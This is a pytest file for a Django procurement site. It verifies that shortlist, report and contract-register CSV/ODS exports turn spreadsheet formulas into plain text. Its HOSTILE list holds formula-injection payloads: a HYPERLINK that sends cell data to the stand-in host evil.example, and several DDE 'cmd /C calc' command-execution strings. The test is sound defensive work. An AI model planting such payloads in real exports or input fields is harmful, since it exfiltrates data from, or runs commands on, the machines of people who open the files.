"""Every CSV/ODS export the site writes, fed a row of hostile values and read back with the csv
module and tablib: each comes back as text, never as a formula (issue 20).

Every export writes through ndx.exports: buying.services.shortlists.shortlist_export (CSV
and ODS) and reporting.exports.csv_text (the four report CSV views)."""

from __future__ import annotations

import csv
import io

import pytest
import tablib

from ndx.exports import FORMULA_STARTS, PLAIN_NUMBER

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"Open")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _formulas(cells) -> list[str]:
    return [
        c
        for c in cells
        if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not PLAIN_NUMBER.match(c)
    ]


def _hostile_shortlist():
    from buying.models import ShortlistItem
    from tests.accounts.factories import BuyerOrganisationFactory, member
    from tests.buying.award_helpers import frozen_shortlist
    from tests.reviews.factories import buyable_offer

    buyer = member(BuyerOrganisationFactory())
    offers = [buyable_offer() for _ in HOSTILE]
    shortlist = frozen_shortlist(buyer, offers)
    for item, value in zip(shortlist.items.order_by("position"), HOSTILE, strict=True):
        # As a supplier could name an offer and itself; set on the frozen copy directly.
        ShortlistItem.objects.filter(pk=item.pk).update(
            title=value, supplier_name=value, lot_name=value
        )
    return shortlist


def test_shortlist_csv_export():
    from buying.services.shortlists import shortlist_export

    content = shortlist_export(shortlist=_hostile_shortlist(), fmt="csv").decode("utf-8")
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert not _formulas(cell for row in rows for cell in row)


def test_shortlist_ods_export():
    from buying.services.shortlists import shortlist_export

    data = tablib.Dataset().load(
        shortlist_export(shortlist=_hostile_shortlist(), fmt="ods"), format="ods"
    )
    assert len(data) == len(HOSTILE)
    assert not _formulas(cell for row in data for cell in row)


def test_report_csvs():
    from reporting.exports import csv_text

    content = csv_text([["group", "total"], *([value, "-12.50"] for value in HOSTILE)])
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert [row[1] for row in rows[1:]] == ["-12.50"] * len(HOSTILE)  # numbers stay numbers
    assert not _formulas(cell for row in rows for cell in row)


def test_staff_contract_register_csv():
    from django.http import QueryDict

    from contracts.models import Contract
    from contracts.register_views import filtered_register, register_csv
    from tests.reviews.factories import ContractFactory

    for value in HOSTILE:
        contract = ContractFactory()
        Contract.objects.filter(pk=contract.pk).update(title=value)
        contract.supplier.name = value
        contract.supplier.save(update_fields=["name"])
    content = register_csv(filtered_register(QueryDict(""))[1])
    rows = list(csv.reader(io.StringIO(content, newline="")))
    assert len(rows) == len(HOSTILE) + 1
    assert not _formulas(cell for row in rows for cell in row)
    assert {row[1] for row in rows[1:]} == {"'" + v for v in HOSTILE}
